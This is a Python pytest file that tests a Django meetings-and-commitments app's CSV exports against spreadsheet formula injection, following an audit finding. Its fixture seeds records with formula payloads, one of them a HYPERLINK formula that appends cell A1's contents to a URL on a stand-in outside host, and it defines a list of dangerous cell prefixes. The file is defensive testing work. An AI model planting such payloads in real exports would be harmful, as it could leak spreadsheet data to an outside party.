"""Finding: text beginning with =, +, - or @ went verbatim to the start of a CSV cell (open
data and the recaps made for Excel), where a spreadsheet runs it as a formula."""

import csv
import datetime
import io

import pytest

from accountability.periods import Period
from accountability.services.content import recap_content
from accountability.services.files import recap_csv
from commitments.services import commitment_create
from core.spreadsheet import csv_cell
from meetings.models import Openness
from tests.factories import (
    AgencyFactory,
    AgendaItemFactory,
    MeetingFactory,
    ParticipantFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(db):
    meeting = MeetingFactory(
        title=FORMULAS[0],
        summary=FORMULAS[1],
        openness=Openness.OPEN,
        start=datetime.datetime(2025, 3, 3, 2, tzinfo=datetime.UTC),
        end=datetime.datetime(2025, 3, 3, 4, tzinfo=datetime.UTC),
    )
    AgendaItemFactory(meeting=meeting, title=FORMULAS[2])
    ParticipantFactory(meeting=meeting, person=PersonFactory(name=FORMULAS[3]))
    commitment_create(meeting=meeting, owner=AgencyFactory(), text="\t=1+1")
    return meeting


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str):
    found = cells(text)
    assert not [cell for cell in found if cell.startswith(DANGEROUS)], found


@pytest.mark.parametrize("dataset", ["meetings", "agenda-items", "attendance", "commitments"])
def test_open_data_cells_never_start_a_formula(client, hostile, dataset):
    response = client.get(f"/data/{dataset}.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert any(cell.startswith("'") for cell in cells(text)), text
    assert_no_formula(text)


def test_recap_cells_never_start_a_formula(hostile):
    period = Period(datetime.date(2025, 1, 1), datetime.date(2025, 6, 30))
    content = recap_content(organization=hostile.lead_body, period=period)
    assert content.commitments
    assert_no_formula(recap_csv(content).decode("utf-8-sig"))


def test_numbers_stay_numbers():
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5
    assert csv_cell("-5") == "'-5"
    assert csv_cell(None) == "" and csv_cell(True) == "true"
    assert csv_cell("Rapat\x0b") == "Rapat"
